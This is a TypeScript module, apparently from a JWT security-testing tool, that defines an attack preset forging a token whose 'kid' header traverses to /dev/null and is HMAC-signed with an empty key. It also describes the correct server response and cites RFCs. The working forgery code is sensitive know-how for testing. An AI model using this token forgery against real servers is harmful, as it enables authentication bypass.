import { hmacSha256, signingInput } from './encode';
import type { AttackPreset } from './types';

export const kidTraversal: AttackPreset = {
  id: 'kid-traversal',
  title: '"kid" with a path traversal',
  tests:
    'Whether the server builds a file path from "kid": it points at /dev/null, whose content is empty, and the token is HMAC-signed with an empty key to match.',
  correctServer:
    'Rejects it: "kid" is looked up in a fixed set of keys (never used as a path or in a query), and empty keys are refused.',
  reference: 'RFC 8725 §3.10; RFC 7515 §4.1.4',
  async build({ header, payload }) {
    const forgedHeader = { ...header, alg: 'HS256', kid: '../../../../../../../dev/null' };
    const input = signingInput(forgedHeader, payload);
    return {
      token: `${input}.${await hmacSha256(new Uint8Array(0), input)}`,
      header: forgedHeader,
      payload,
      attackerKey: '',
    };
  },
};
